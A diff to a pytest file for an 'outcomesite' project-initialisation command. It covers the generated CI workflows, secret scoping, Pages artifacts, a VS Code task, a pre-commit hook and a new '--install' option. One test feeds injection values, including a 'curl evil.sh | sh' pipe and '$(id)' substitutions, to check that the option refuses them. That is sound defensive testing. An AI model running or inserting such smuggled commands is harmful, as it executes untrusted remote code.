@@ -32,7 +32,9 @@ CREATED = [
     ".github/workflows/outcomesite.yml",
     ".github/dependabot.yml",
     ".gitlab-ci.yml",
+    ".vscode/tasks.json",
 ]
+INSTALL = f'python -m pip install "outcomesite=={__version__}"'
 CHECK_COMMAND = "outcomesite check --format github"
 BUILD_COMMAND = "outcomesite build"
 SECRET_FROM_GITHUB = "${{ secrets.OUTCOMESITE_SECRET }}"
@@ -104,7 +106,9 @@ def test_init_then_the_workflow_commands_check_and_build(tmp_path: Path) -> None
 
     # As CI runs it: `CI` set, the secret from the environment (never a local secret file).
     build = run_command(
-        site, BUILD_COMMAND + " --no-pdf", env={"CI": "true", "OUTCOMESITE_SECRET": "s3cret"}
+        site,
+        BUILD_COMMAND + " --no-pdf",
+        env={"CI": "true", "OUTCOMESITE_SECRET": "s3cret-0123456789abcdef0123456789abcdef"},
     )
     assert build.exit_code == 0, build.output
     reports = list(site.glob("build/public/r/*/index.html"))
@@ -139,7 +143,12 @@ def test_init_site_builds_with_pdfs(tmp_path: Path) -> None:
     assert [p.relative_to(site).as_posix() for p in written] == CREATED
     report = build_site(
         site,
-        BuildOptions(pdf=True, as_of=AS_OF, jobs=1, environ={"OUTCOMESITE_SECRET": "s3cret"}),
+        BuildOptions(
+            pdf=True,
+            as_of=AS_OF,
+            jobs=1,
+            environ={"OUTCOMESITE_SECRET": "s3cret-0123456789abcdef0123456789abcdef"},
+        ),
     )
     assert report.pdfs == 1
     assert not report.warnings
@@ -242,7 +251,9 @@ def test_github_workflow_checks_pull_requests(tmp_path: Path) -> None:
     assert triggers["push"]["branches"] == ["main"]
     check = workflow["jobs"]["check"]
     assert check["if"] == "github.event_name == 'pull_request'"
-    assert runs(check)[-2:] == ["python -m pip install outcomesite", CHECK_COMMAND]
+    assert runs(check) == [INSTALL, CHECK_COMMAND]  # no system packages: checking needs none
+    # The history, for the rule that refuses a reused slug.
+    assert step_using(check, "actions/checkout")["with"]["fetch-depth"] == 0
     version = step_using(check, "actions/setup-python")["with"]["python-version"]
     assert tuple(int(n) for n in str(version).split(".")) >= (3, 11)
     step_using(check, "actions/checkout")
@@ -254,7 +265,7 @@ def test_github_workflow_builds_main_with_full_history_and_the_secret(tmp_path: 
     build = workflow["jobs"]["build"]
     assert "refs/heads/main" in build["if"]
     assert step_using(build, "actions/checkout")["with"]["fetch-depth"] == 0
-    assert "python -m pip install outcomesite" in runs(build)
+    assert INSTALL in runs(build)
     (build_step,) = [s for s in steps(build) if s.get("run") == BUILD_COMMAND]
     assert build_step["env"] == {"OUTCOMESITE_SECRET": SECRET_FROM_GITHUB}
     # Only the build step sees the secret.
@@ -267,7 +278,7 @@ def test_github_workflow_builds_main_with_full_history_and_the_secret(tmp_path: 
     assert cache["with"]["key"].startswith(cache["with"]["restore-keys"])
     assert steps(build).index(cache) < steps(build).index(build_step)
     raw = (site / ".github/workflows/outcomesite.yml").read_text(encoding="utf-8")
-    assert f'python -m pip install "outcomesite=={__version__}"' in raw  # how to pin
+    assert "git+https://github.com/ORG/outcomesite@v0.2.0" in raw  # how to change it
 
 
 def test_github_pages_gets_public_only_and_internal_stays_private(tmp_path: Path) -> None:
@@ -278,8 +289,9 @@ def test_github_pages_gets_public_only_and_internal_stays_private(tmp_path: Path
     assert pages["with"]["path"] == "build/public"
     internal = step_using(build, "actions/upload-artifact")
     paths = internal["with"]["path"].split()
-    assert "build/internal" in paths
-    assert not any(p in {"build", "build/", "build/public", "build/public/"} for p in paths)
+    # The private artifact holds the public site beside the index, so that its relative links
+    # work once downloaded; it is never the Pages artifact.
+    assert paths == ["build/internal", "build/public"]
     # The only Pages upload in the workflow is build/public: internal/ never reaches Pages.
     pages_steps = [s for j in jobs.values() for s in steps(j) if "pages" in s.get("uses", "")]
     assert [s["with"] for s in pages_steps if "with" in s] == [{"path": "build/public"}]
@@ -299,13 +311,19 @@ def test_github_pages_gets_public_only_and_internal_stays_private(tmp_path: Path
 def test_gitlab_ci(tmp_path: Path) -> None:
     site = init(tmp_path)
     ci = yaml.safe_load((site / ".gitlab-ci.yml").read_text(encoding="utf-8"))
-    assert "python -m pip install outcomesite" in ci["default"]["before_script"]
+    assert ci["variables"]["OUTCOMESITE_INSTALL"] == f"outcomesite=={__version__}"
+    assert "before_script" not in ci.get("default", {})
     check = ci["check"]
     assert check["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "merge_request_event"'}]
-    assert check["script"] == ["outcomesite check"]
+    install = 'python -m pip install "$OUTCOMESITE_INSTALL"'
+    # Checking installs git (for the history) and outcomesite, and no PDF renderer.
+    assert check["script"][1:] == [install, "outcomesite check"]
+    assert "pango" not in check["script"][0] and "git" in check["script"][0]
+    assert str(check["variables"]["GIT_DEPTH"]) == "0"
     build = ci["build"]
     assert str(build["variables"]["GIT_DEPTH"]) == "0"
-    assert build["script"] == [BUILD_COMMAND]
+    assert build["script"][1:] == [install, BUILD_COMMAND]
+    assert "libpango" in build["script"][0]
     assert build["cache"]["paths"] == [CACHE_DIR.as_posix() + "/"]
     assert "build/internal/" in build["artifacts"]["paths"]
     assert build["artifacts"]["expire_in"] == "7 days"
@@ -316,7 +334,7 @@ def test_gitlab_ci(tmp_path: Path) -> None:
     assert pages["artifacts"]["paths"] == ["public"]
     assert pages["rules"] == build["rules"] == [{"if": "$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH"}]
     # The check command GitLab runs passes on the new site, too.
-    assert run_command(site, check["script"][0]).exit_code == 0
+    assert run_command(site, check["script"][-1]).exit_code == 0
 
 
 # Packaging: the files init copies are in the wheel.
@@ -330,3 +348,101 @@ def test_package_data_ships_the_site_template() -> None:
     template_files = [p for p in SITE_TEMPLATE.rglob("*") if p.is_file()]
     assert template_files
     assert set(template_files) <= shipped
+
+
+# Editors and hooks: `check` where a CSM edits.
+
+
+def test_the_vs_code_task_puts_every_problem_on_its_line(tmp_path: Path) -> None:
+    """The problem matcher `init` writes reads `check`'s own output: every diagnostic becomes a
+    problem at its file and line (VS Code's YAML extension does not read front matter in .md)."""
+    import json
+
+    site = init(tmp_path)
+    tasks = json.loads((site / ".vscode/tasks.json").read_text(encoding="utf-8"))
+    (task,) = tasks["tasks"]
+    assert task["command"] == "outcomesite check"
+    assert task["group"] == {"kind": "build", "isDefault": True}
+    pattern = task["problemMatcher"]["pattern"]
+    example = site / "content/accounts/example-customer.md"
+    text = example.read_text(encoding="utf-8")
+    example.write_text(
+        text.replace("segment: enterprise", "segment: Enterprize").replace(
+            "    owner: ", "    ower: "
+        ),
+        encoding="utf-8",
+    )
+    result = run_cli(site, "check")
+    assert result.exit_code == 1
+    lines = result.stdout.splitlines()
+    assert len(lines) >= 2
+    for line in lines:
+        match = re.match(pattern["regexp"], line)
+        assert match, line
+        path, number, severity, message = (
+            match.group(pattern[key]) for key in ("file", "line", "severity", "message")
+        )
+        assert (site / path).is_file()
+        assert int(number) >= 1 and severity in ("error", "warning") and message
+
+
+def test_the_project_offers_a_pre_commit_hook() -> None:
+    (hook,) = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text(encoding="utf-8"))
+    assert hook["id"] == "outcomesite-check"
+    assert hook["entry"] == "outcomesite check"
+    assert hook["language"] == "python" and hook["pass_filenames"] is False
+    for path in ("content/accounts/acme.md", "outcomesite.yaml", "themes/brand/x.css"):
+        assert re.search(hook["files"], path)
+    assert not re.search(hook["files"], "README.md")
+
+
+# --install: what CI installs.
+
+
+@pytest.mark.parametrize(
+    ("spec", "installed"),
+    [
+        (None, f"outcomesite=={__version__}"),
+        ("0.3.1", "outcomesite==0.3.1"),
+        ("outcomesite>=0.2,<0.4", "outcomesite>=0.2,<0.4"),
+        (
+            "git+https://github.com/acme/outcomesite@v0.1.0",
+            "git+https://github.com/acme/outcomesite@v0.1.0",
+        ),
+        (
+            "vendor/outcomesite-0.1.0-py3-none-any.whl",
+            "./vendor/outcomesite-0.1.0-py3-none-any.whl",
+        ),
+    ],
+)
+def test_init_writes_what_ci_installs(tmp_path: Path, spec: str | None, installed: str) -> None:
+    site = tmp_path / "reports"
+    args = ["init", str(site)] + (["--install", spec] if spec else [])
+    result = run_cli(tmp_path, *args)
+    assert result.exit_code == 0, result.output
+    assert f"note: the CI workflows install `{installed}`" in result.stderr
+    workflow = github_workflow(site)
+    for job in ("check", "build"):
+        assert f'python -m pip install "{installed}"' in runs(workflow["jobs"][job])
+    gitlab = yaml.safe_load((site / ".gitlab-ci.yml").read_text(encoding="utf-8"))
+    assert gitlab["variables"]["OUTCOMESITE_INSTALL"] == installed
+
+
+@pytest.mark.parametrize(
+    "spec", ['outcomesite"; curl evil.sh | sh; "', "outcomesite $(id)", "a b", "`id`"]
+)
+def test_init_refuses_an_install_line_that_is_not_one(tmp_path: Path, spec: str) -> None:
+    result = run_cli(tmp_path, "init", str(tmp_path / "reports"), "--install", spec)
+    assert result.exit_code == 2
+    assert "is not something to install" in result.stderr
+    assert not (tmp_path / "reports").exists()
+
+
+@pytest.mark.parametrize("where", ["afile/sub", "/proc/nope/x"])
+def test_init_on_a_path_that_cannot_be_a_folder_is_one_line(tmp_path: Path, where: str) -> None:
+    (tmp_path / "afile").write_text("not a folder", encoding="utf-8")
+    result = run_cli(tmp_path, "init", where)
+    assert result.exit_code == 2
+    assert result.stderr.startswith("Error: ")
+    assert len(result.stderr.strip().splitlines()) == 1
+    assert "Traceback" not in result.output
